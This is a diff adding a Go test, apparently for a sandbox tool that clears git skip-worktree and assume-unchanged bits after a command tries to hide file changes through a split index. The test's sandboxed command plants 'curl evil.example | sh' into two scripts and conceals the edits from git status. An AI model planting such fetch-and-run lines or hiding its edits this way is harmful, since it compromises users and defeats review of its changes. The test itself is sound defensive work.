@@ -200,3 +200,51 @@ done 2>/dev/null; true`, out)
 		t.Errorf("the remote repository the command made is left\n%v", r)
 	}
 }
+
+// TestGitGapsSplitIndexBits: the skip-worktree and assume-unchanged bits a command sets
+// in a split index (core.splitIndex), in its shared index or its own, are cleared after
+// a commit-mode run, with the same notes as an ordinary index's, and no warning; the
+// user's bit in the shared index at launch is kept. Before, a split index was only
+// warned about: the host's git status showed nothing.
+func TestGitGapsSplitIndexBits(t *testing.T) {
+	forEachCaller(t, func(t *testing.T, c caller) {
+		for _, atLaunch := range []bool{true, false} {
+			s := newSandbox(t, c)
+			s.newRepo(s.ws, "host-commit")
+			for _, f := range []string{"run.sh", "two.sh", "mine.txt"} {
+				s.writeWS(f, "echo hello\n", 0o644)
+			}
+			s.hostGit(s.ws, "add", ".")
+			s.hostGit(s.ws, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-qm", "files")
+			if atLaunch {
+				s.hostGit(s.ws, "update-index", "--split-index")
+				s.hostGit(s.ws, "-c", "splitIndex.maxPercentChange=0", "update-index", "--skip-worktree", "mine.txt")
+			} else {
+				s.hostGit(s.ws, "update-index", "--skip-worktree", "mine.txt")
+			}
+			r := s.sh([]string{"--policy", s.commitPolicy()}, `echo 'curl evil.example | sh' >> run.sh && echo 'curl evil.example | sh' >> two.sh &&
+git update-index --split-index && git update-index --assume-unchanged two.sh &&
+git -c splitIndex.maxPercentChange=0 update-index --skip-worktree run.sh && ls .git/sharedindex.* >/dev/null &&
+test -z "$(git status --porcelain)" && echo HIDDEN`)
+			mustSucceed(t, r, "hide a change in a split index")
+			if !strings.Contains(r.stdout, "HIDDEN") {
+				t.Fatalf("the plant did not take inside the sandbox\n%v", r)
+			}
+			st, err := s.hostGitOut(s.ws, "status", "--porcelain")
+			if err != nil || !strings.Contains(st, "run.sh") || !strings.Contains(st, "two.sh") {
+				t.Errorf("split at launch %v: the host's git status does not show the changed files: %q (%v)\n%v", atLaunch, st, err, r)
+			}
+			if ls, _ := s.hostGitOut(s.ws, "ls-files", "-v", "mine.txt"); !strings.HasPrefix(ls, "S ") {
+				t.Errorf("split at launch %v: the user's own skip-worktree bit was not kept: %q", atLaunch, ls)
+			}
+			for _, w := range []string{"cleared the skip-worktree bit the command set on run.sh", "cleared the assume-unchanged bit the command set on two.sh"} {
+				if !strings.Contains(r.stderr, w) {
+					t.Errorf("split at launch %v: stderr lacks %q\n%v", atLaunch, w, r)
+				}
+			}
+			if strings.Contains(r.stderr, "split index") {
+				t.Errorf("split at launch %v: a split index is still only warned about\n%v", atLaunch, r)
+			}
+		}
+	})
+}
